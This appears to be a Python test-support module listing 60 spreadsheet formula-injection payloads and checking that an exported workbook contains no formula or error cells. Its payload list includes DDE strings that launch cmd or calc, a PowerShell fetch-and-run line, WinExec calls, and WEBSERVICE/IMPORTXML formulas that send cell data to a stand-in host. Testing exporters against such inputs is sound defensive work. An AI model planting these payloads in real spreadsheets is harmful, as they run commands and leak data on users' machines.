"""Formula-injection payloads for spreadsheet cells, and the checks on a spreadsheet
that received them (shared by the spreadsheet and the injection tests)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

# 60 distinct payloads (test_planilhas checks the count)
INJECOES: list[str] = [
    "=1+1",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|'/c calc'!A1",
    "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTRANGE("https://x/d/1","A1:B2")',
    '=IMAGE("http://x/a.png")',
    '=WEBSERVICE("http://x/?"&A1)',
    '=FILTERXML(WEBSERVICE("http://x"),"//a")',
    '=INDIRECT("A1")',
    "=SUM(A1:A10)",
    "=A1",
    "=1/0",
    "=NA()",
    "=#REF!",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#NAME?",
    "#VALUE!",
    "#NUM!",
    "#NULL!",
    "=cmd|'/c powershell IEX(wget x)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=CALL("Kernel32","WinExec","JJCJ","calc",0)',
    '=EXEC("calc")',
    '=HYPERLINK("javascript:alert(1)")',
    "  =1+1",
    " +1",
    "\t\t=SUM(1,2)",
    "\r\n=1+2",
    "\n=1+3",
    "\x00=1+4",
    "=1+5\x00",
    "'=1+6",
    "\uff1d1+7",
    '="a"&"b"',
    "=CHAR(65)",
    "=TODAY()",
    "=NOW()",
    "=RAND()",
    "=ROW()",
    "+1",
    "-1",
    "@A1",
    "=-1",
    "==1",
    "=1+1;=2+2",
    "-=1+1",
]


def esperado(texto: str) -> str:
    """``texto`` as the spreadsheet must show it: C0/C1 controls but LF removed."""
    texto = texto.replace("\r\n", "\n")
    return "".join(
        ch for ch in texto if ch == "\n" or not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F)
    )


def sem_formulas(caminho: Path) -> None:
    """No formula nor error cell, per openpyxl and per the raw sheet XML."""
    wb = openpyxl.load_workbook(caminho, data_only=False)
    for ws in wb.worksheets:
        for linha in ws.iter_rows():
            for celula in linha:
                assert celula.data_type not in ("f", "e"), (
                    ws.title,
                    celula.coordinate,
                    celula.value,
                )
    with zipfile.ZipFile(caminho) as z:
        for nome in z.namelist():
            if nome.startswith("xl/worksheets/"):
                xml = z.read(nome).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), nome
                assert 't="e"' not in xml, nome
